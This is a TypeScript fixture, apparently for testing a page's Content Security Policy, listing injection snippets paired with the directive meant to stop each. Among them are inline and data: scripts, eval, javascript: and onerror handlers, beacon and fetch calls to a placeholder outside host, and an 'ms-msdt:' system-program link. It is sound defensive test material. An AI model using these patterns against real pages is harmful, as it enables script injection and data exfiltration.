/** What a hostile text would try once it runs in the page. `SITE` stands for a web server outside. */
export interface PageAttack {
  readonly name: string
  /** Directive of the policy that must stop it. */
  readonly stoppedBy: string
  /** Code of the attack, run in the page. */
  readonly code: string
}

const append = (tag: string, properties: string): string =>
  `document.body.append(Object.assign(document.createElement('${tag}'), ${properties}))`

export const pageAttacks: readonly PageAttack[] = [
  {
    name: 'an inline script',
    stoppedBy: 'script-src-elem',
    code: append('script', `{ textContent: 'window.hit = 1' }`),
  },
  { name: 'a script of another site', stoppedBy: 'script-src-elem', code: append('script', `{ src: 'SITE/x.js' }`) },
  {
    name: 'a script in a data: address',
    stoppedBy: 'script-src-elem',
    code: append('script', `{ src: 'data:,window.hit=1' }`),
  },
  {
    name: 'an event handler in markup',
    stoppedBy: 'script-src-attr',
    code: append('div', `{ innerHTML: '<img src="data:," onerror="window.hit = 1">' }`),
  },
  {
    name: 'a link to javascript:',
    stoppedBy: 'script-src-elem',
    code: `Object.assign(document.createElement('a'), { href: 'javascript:void(window.hit = 1)' }).click()`,
  },
  // The debugger may use eval whatever the policy says; a timer of the page may not.
  { name: 'eval', stoppedBy: 'script-src', code: `setTimeout(() => eval('window.hit = 1'))` },
  {
    name: 'a function out of a text',
    stoppedBy: 'script-src',
    code: `setTimeout(() => new Function('window.hit = 1')())`,
  },
  {
    name: 'a worker out of a text',
    stoppedBy: 'worker-src',
    code: `setTimeout(() => new Worker(URL.createObjectURL(new Blob(['1']))))`,
  },
  {
    name: 'a style element',
    stoppedBy: 'style-src-elem',
    code: append('style', `{ textContent: 'body { color: red }' }`),
  },
  {
    name: 'a style attribute',
    stoppedBy: 'style-src-attr',
    code: append('div', `{ innerHTML: '<b style="color:red">' }`),
  },
  { name: 'fetch', stoppedBy: 'connect-src', code: `void fetch('SITE/fetch').catch(() => 0)` },
  { name: 'fetch of the own origin', stoppedBy: 'connect-src', code: `void fetch('/index.html').catch(() => 0)` },
  {
    name: 'XMLHttpRequest',
    stoppedBy: 'connect-src',
    code: `(() => { const xhr = new XMLHttpRequest(); xhr.open('GET', 'SITE/xhr'); xhr.send() })()`,
  },
  { name: 'a web socket', stoppedBy: 'connect-src', code: `void new WebSocket('SITE/socket'.replace('http', 'ws'))` },
  { name: 'an event stream', stoppedBy: 'connect-src', code: `void new EventSource('SITE/events')` },
  { name: 'a beacon', stoppedBy: 'connect-src', code: `void navigator.sendBeacon('SITE/beacon', 'data')` },
  { name: 'a foreign image', stoppedBy: 'img-src', code: append('img', `{ src: 'SITE/pixel.png' }`) },
  {
    name: 'a foreign style sheet',
    stoppedBy: 'style-src-elem',
    code: append('link', `{ rel: 'stylesheet', href: 'SITE/a.css' }`),
  },
  {
    name: 'a foreign font',
    stoppedBy: 'font-src',
    code: `void new FontFace('far', 'url(SITE/a.woff2)').load().catch(() => 0)`,
  },
  { name: 'a foreign film', stoppedBy: 'media-src', code: append('video', `{ src: 'SITE/a.mp4' }`) },
  { name: 'a frame of another site', stoppedBy: 'frame-src', code: append('iframe', `{ src: 'SITE/frame' }`) },
  { name: 'a frame of the own origin', stoppedBy: 'frame-src', code: append('iframe', `{ src: '/index.html' }`) },
  { name: 'an object', stoppedBy: 'object-src', code: append('object', `{ data: 'SITE/object' }`) },
  { name: 'another base address', stoppedBy: 'base-uri', code: append('base', `{ href: 'SITE/' }`) },
  {
    name: 'a form',
    stoppedBy: 'form-action',
    code: `(() => { const form = Object.assign(document.createElement('form'), { action: 'SITE/form' }); document.body.append(form); form.submit() })()`,
  },
  { name: 'a prefetch', stoppedBy: 'default-src', code: append('link', `{ rel: 'prefetch', href: 'SITE/prefetch' }`) },
]

/** Ways out of the page: name and code. */
export const navigationAttacks: readonly (readonly [name: string, code: string])[] = [
  ['location to another site', `location.href = 'SITE/a'`],
  ['location.replace', `location.replace('SITE/a')`],
  ['location to another page of the own origin', `location.href = '/other.html'`],
  ['location to a file', `location.href = 'app://print/x/index.html'`],
  ['a link that redirects', `Object.assign(document.createElement('a'), { href: 'SITE/redirect' }).click()`],
  ['a link to a program of the system', `Object.assign(document.createElement('a'), { href: 'ms-msdt:/id' }).click()`],
  ['a mail link', `location.href = 'mailto:nobody@example.invalid'`],
  [
    'a refresh in markup',
    `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=SITE/a' }))`,
  ],
  ['reloading', `location.reload()`],
]
